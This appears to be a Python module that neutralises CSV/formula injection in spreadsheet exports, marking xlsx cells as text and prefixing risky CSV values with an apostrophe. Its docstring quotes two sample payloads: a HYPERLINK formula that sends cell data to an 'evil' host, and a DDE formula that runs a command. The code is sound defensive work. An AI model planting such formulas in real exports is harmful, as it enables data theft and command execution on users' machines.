"""User text in spreadsheets stays text: no cell of an export is ever a formula.

A narrative ``=HYPERLINK("http://evil…"&A2, "details")`` or ``=cmd|' /C calc'!A0`` must not
become a live formula in the coordinator's Excel (CWE-1236, "CSV injection"):
- in .xlsx files every text is written as a text cell (openpyxl would make a string that
  starts with ``=`` a formula), with Excel's "quote prefix" so that editing keeps it text;
- in CSV files a text that starts with ``= + - @``, a tab, a carriage return or a line feed
  (which some spreadsheets trim before running what follows) gets a leading
  apostrophe, as OWASP recommends; a text that already starts with an apostrophe gets one
  more, so that ``restore_text`` gives back exactly what was written, and an export imports
  back to the same texts.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # the reader imports this module in its child process: keep that light
    import pandas as pd
    from openpyxl.cell.cell import Cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE = "'"


def neutralise(value: object) -> object:
    """A CSV cell's value: texts that a spreadsheet would run get a leading apostrophe."""
    if isinstance(value, str) and value.startswith((*TRIGGERS, QUOTE)):
        return QUOTE + value
    return value


def restore_text(value: str) -> str:
    """What ``neutralise`` wrote, read back (the apostrophe it added taken off)."""
    if len(value) > 1 and value[0] == QUOTE and value[1] in (*TRIGGERS, QUOTE):
        return value[1:]
    return value


def csv_text(header: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """A CSV file with every text cell neutralised (``None`` as an empty cell)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(v) for v in header])
    writer.writerows([neutralise("" if v is None else v) for v in row] for row in rows)
    return buffer.getvalue()


def frame_csv(frame: pd.DataFrame) -> bytes:
    """A table (a chart's data) as CSV bytes for a download, texts neutralised."""
    return csv_text([str(c) for c in frame.columns],
                    frame.astype(object).where(frame.notna(), None).itertuples(index=False)
                    ).encode()


def as_text_cell(cell: Cell) -> None:
    """An openpyxl cell holding a string: written as text, never as a formula."""
    if isinstance(cell.value, str) and cell.data_type == "f":
        cell.data_type = "s"
    if isinstance(cell.value, str) and cell.value.startswith((*TRIGGERS, QUOTE)):
        cell.quotePrefix = True
